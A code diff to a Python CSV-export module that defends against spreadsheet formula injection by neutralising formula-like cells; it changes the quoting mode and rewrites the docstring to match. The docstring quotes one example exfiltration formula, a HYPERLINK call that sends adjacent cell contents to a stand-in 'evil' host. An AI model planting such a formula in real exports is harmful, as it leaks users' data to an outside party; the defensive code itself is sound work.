@@ -3,9 +3,9 @@
 A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
 and Google Sheets (`=HYPERLINK("https://evil/?"&A2, "click")` sends neighbouring cells away). As OWASP's "CSV
 Injection" page recommends, such text cells are prefixed with a single quote, which the spreadsheet shows as
-text, and every text cell is quoted, with embedded quotes doubled. Fullwidth look-alikes (＝ ＋ － ＠), which some
-spreadsheets also accept, are treated the same. Numbers (int, float) are written as numbers, untouched: a
-negative score stays a number.
+text; the csv module quotes any cell holding a separator, quote or line break (embedded quotes doubled), so a
+cell can never spill into the next one. Fullwidth look-alikes (＝ ＋ － ＠), which some spreadsheets also accept,
+are treated the same. Numbers (int, float) are written as numbers, untouched: a negative score stays a number.
 """
 
 from __future__ import annotations
@@ -49,7 +49,7 @@ def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, An
 
 
 def _write(stream: Any, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
-    writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC)
+    writer = csv.writer(stream)
     writer.writerow([neutralise(c) for c in columns])
     for row in rows:
         writer.writerow([neutralise(row.get(c, "")) for c in columns])
